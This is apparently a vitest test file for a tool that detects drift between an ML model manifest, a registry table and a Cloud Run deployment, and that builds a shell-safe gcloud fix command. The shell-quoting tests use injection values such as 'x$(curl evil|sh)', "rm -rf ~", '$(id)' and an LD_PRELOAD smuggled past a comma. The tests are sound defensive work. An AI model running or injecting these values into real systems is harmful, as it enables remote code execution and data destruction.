import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { deploymentDrift, fixCommand, registryDrift } from '../../src/checks/drift.js';
import { parseManifest } from '../../src/manifest/parse.js';
import type { DeploymentSnapshot } from '../../src/ports.js';
import { manifestPath, manifestRows } from '../../src/registry/row.js';
import { EXAMPLES } from '../helpers/cli.js';
import { DATA_COLUMNS, withChanged } from '../helpers/columns.js';

const parsed = parseManifest('manifest.json', readFileSync(`${EXAMPLES}/manifest.json`));
const PROD = 'catboost_v9_33features_20260201_011018';

describe('registryDrift', () => {
  it("names both values of the seeds' wrong training_end_date and points at the manifest line", () => {
    const rows = manifestRows(parsed.manifest).map((r) => (r.model_id === PROD ? { ...r, training_end_date: '2026-01-31' } : r));
    expect(registryDrift(parsed, rows, 'model_registry')).toEqual([
      {
        code: 'registry.field',
        severity: 'error',
        message: `${PROD}: training_end_date is 2026-01-31 in model_registry but 2026-01-08 in the manifest`,
        model_id: PROD,
        field: 'training_end_date',
        expected: '2026-01-08',
        actual: '2026-01-31',
        location: { file: 'manifest.json', line: 12, column: 28 },
      },
    ]);
  });

  it('reports missing rows, extra rows and is_production', () => {
    const rows = manifestRows(parsed.manifest)
      .filter((r) => r.model_id !== 'catboost_v9_2026_02')
      .map((r) => (r.model_id === PROD ? { ...r, is_production: false } : r));
    rows.push({ ...(rows[0] as (typeof rows)[number]), model_id: 'orphan' });
    const codes = registryDrift(parsed, rows, 't').map((f) => [f.code, f.model_id, f.field ?? '']);
    expect(codes).toEqual([
      ['registry.missing', 'catboost_v9_2026_02', ''],
      ['registry.field', PROD, 'is_production'],
      ['registry.extra', 'orphan', ''],
    ]);
  });

  // Table-driven over every data column: a column the comparison skips (say sha256) is drift nobody sees.
  it.each(DATA_COLUMNS.map(([c]) => c))('reports a registry row whose %s alone differs, pointing at the manifest', (column) => {
    const want = manifestRows(parsed.manifest);
    const rows = want.map((r) => (r.model_id === PROD ? withChanged(r, column) : r));
    const changed = rows.find((r) => r.model_id === PROD);
    const findings = registryDrift(parsed, rows, 't');
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({
      code: 'registry.field',
      severity: 'error',
      model_id: PROD,
      field: column,
      expected: want.find((r) => r.model_id === PROD)?.[column],
      actual: changed?.[column],
      location: parsed.source.locate(['models', PROD, ...manifestPath(column)]),
    });
  });
});

const snapshot = (served: DeploymentSnapshot['served']): DeploymentSnapshot => ({
  source: 'svc.yaml',
  service: 'prediction-worker',
  region: 'us-west2',
  project: null,
  env: 'CATBOOST_V9_MODEL_PATH',
  served,
});
const serve = (value: string | null, percent = 100, extra: Partial<DeploymentSnapshot['served'][number]> = {}) => ({
  value,
  fromSecret: false,
  percent,
  revision: 'r1',
  container: 'worker',
  ...extra,
});

describe('deploymentDrift', () => {
  const GCS = `gs://nba-props-platform-models/catboost/v9/${PROD}.cbm`;

  it("is clean when the served gs:// path is the production model's object", () => {
    expect(deploymentDrift(parsed, snapshot([serve(GCS)]))).toEqual([]);
  });

  it('compares a bare file name or local path by its basename', () => {
    expect(deploymentDrift(parsed, snapshot([serve(`${PROD}.cbm`), serve(`/models/${PROD}.cbm`, 0, { container: 'b' })]))).toEqual([]);
  });

  it('is drift when a same-named object in another bucket or folder is served, naming both paths', () => {
    for (const other of [`gs://scratch-bucket/${PROD}.cbm`, `gs://nba-props-platform-models/catboost/v8/${PROD}.cbm`]) {
      const [f, ...rest] = deploymentDrift(parsed, snapshot([serve(other)]));
      expect(rest).toEqual([]);
      expect(f).toMatchObject({ code: 'deployment.model', severity: 'error', expected: GCS, actual: other });
      expect(f?.message).toContain(`serves ${other} but the manifest's production model is ${GCS}`);
    }
  });

  it('is drift when a revision the source cannot show holds traffic (a rollback pinned in status.traffic)', () => {
    const findings = deploymentDrift(
      parsed,
      snapshot([
        serve(GCS, 0),
        serve(null, 100, { revision: 'prediction-worker-00041-old', container: '(not in this file)', unseen: true }),
      ]),
    );
    expect(findings.map((f) => [f.code, f.severity])).toEqual([['deployment.revision-unseen', 'error']]);
    expect(findings[0]?.message).toMatch(/revision prediction-worker-00041-old .*100% of traffic.* cannot be read/);
  });

  it('warns, not errs, when the revision holding 0% of traffic is set to another model', () => {
    const findings = deploymentDrift(parsed, snapshot([serve('gs://b/new.cbm', 0, { revision: 'r2' }), serve(GCS, 100)]));
    expect(findings.map((f) => [f.code, f.severity])).toEqual([['deployment.model', 'warning']]);
  });

  it("quotes the service name in the rollback hint, as in the fix command (it comes from the YAML's metadata.name)", () => {
    const hostile = { ...snapshot([serve(null, 100, { revision: 'old', unseen: true })]), service: 'x$(curl evil|sh)', project: 'p1' };
    const [f] = deploymentDrift(parsed, hostile);
    expect(f?.message).toContain(`--deployment 'run:projects/p1/locations/us-west2/services/x$(curl evil|sh)'`);
    const clean = deploymentDrift(parsed, { ...hostile, service: 'prediction-worker' })[0]?.message;
    expect(clean).toContain('--deployment run:projects/p1/locations/us-west2/services/prediction-worker');
  });

  it('says in a notice when traffic could not be seen (a YAML with only the template)', () => {
    const findings = deploymentDrift(parsed, { ...snapshot([serve(GCS)]), trafficSeen: false });
    expect(findings.map((f) => [f.code, f.severity])).toEqual([['deployment.traffic-unknown', 'notice']]);
  });

  it('gives the exact fix command when the service serves another model', () => {
    const [f] = deploymentDrift(parsed, snapshot([serve('gs://b/catboost_v9_old_model.cbm')]));
    expect(f).toMatchObject({ code: 'deployment.model', expected: GCS, actual: 'gs://b/catboost_v9_old_model.cbm' });
    expect(f?.message).toContain(
      `gcloud run services update prediction-worker --region=us-west2 --update-env-vars=CATBOOST_V9_MODEL_PATH=gs://nba-props-platform-models/catboost/v9/${PROD}.cbm`,
    );
  });

  it('flags any traffic share serving another model, and never treats a secret as a match', () => {
    const findings = deploymentDrift(
      parsed,
      snapshot([
        serve(GCS, 90),
        serve('gs://b/old.cbm', 10, { revision: 'r0' }),
        serve(null, 0, { fromSecret: true, container: 'sidecar' }),
      ]),
    );
    expect(findings.map((f) => [f.code, f.severity])).toEqual([
      ['deployment.model', 'error'],
      ['deployment.not-comparable', 'warning'],
    ]);
    expect(findings[0]?.message).toMatch(/revision r0 container worker \(10% of traffic\)/);
  });
});

describe('fixCommand: the Fix hint is one safe POSIX shell line', () => {
  const snap = (over: Partial<DeploymentSnapshot>): DeploymentSnapshot => ({
    source: 'svc.yaml',
    service: 'prediction-worker',
    region: 'us-west2',
    project: 'p1',
    env: 'MODEL_PATH',
    served: [],
    ...over,
  });
  it.each<[Partial<DeploymentSnapshot>, string, string | undefined]>([
    [
      {},
      'gs://b/m.cbm',
      'gcloud run services update prediction-worker --region=us-west2 --project=p1 --update-env-vars=MODEL_PATH=gs://b/m.cbm',
    ],
    [
      { region: null, project: null },
      'gs://b/m.cbm',
      'gcloud run services update prediction-worker --region=REGION --update-env-vars=MODEL_PATH=gs://b/m.cbm',
    ],
    [
      {},
      'gs://b/$(touch /tmp/pwned).cbm',
      "gcloud run services update prediction-worker --region=us-west2 --project=p1 --update-env-vars='MODEL_PATH=gs://b/$(touch /tmp/pwned).cbm'",
    ],
    [
      {},
      'gs://b/`id`.cbm',
      "gcloud run services update prediction-worker --region=us-west2 --project=p1 --update-env-vars='MODEL_PATH=gs://b/`id`.cbm'",
    ],
    [
      { service: "w'; rm -rf ~; '" },
      'gs://b/m.cbm',
      "gcloud run services update 'w'\\''; rm -rf ~; '\\''' --region=us-west2 --project=p1 --update-env-vars=MODEL_PATH=gs://b/m.cbm",
    ],
    [
      { project: '$(id)' },
      'gs://b/m.cbm',
      "gcloud run services update prediction-worker --region=us-west2 --project='$(id)' --update-env-vars=MODEL_PATH=gs://b/m.cbm",
    ],
    // A comma would make gcloud set a second variable: another delimiter instead.
    [{}, 'gs://b/m.cbm,LD_PRELOAD=/tmp/x.so', "--update-env-vars='^@^MODEL_PATH=gs://b/m.cbm,LD_PRELOAD=/tmp/x.so'"],
    [{ env: '^,^X' }, 'gs://b/m.cbm', "--update-env-vars='^@^^,^X=gs://b/m.cbm'"],
    // A service named like a flag goes after --.
    [
      { service: '--project=evil' },
      'gs://b/m.cbm',
      'gcloud run services update --region=us-west2 --project=p1 --update-env-vars=MODEL_PATH=gs://b/m.cbm -- --project=evil',
    ],
    [{ service: 'w\nx' }, 'gs://b/m.cbm', undefined],
    [{}, 'gs://b/a\nb', undefined],
  ])('%j %j', (over, gcsPath, expected) => {
    const got = fixCommand(snap(over), gcsPath);
    if (expected === undefined || expected.startsWith('gcloud')) expect(got).toBe(expected);
    else expect(got).toContain(` ${expected}`);
  });
});
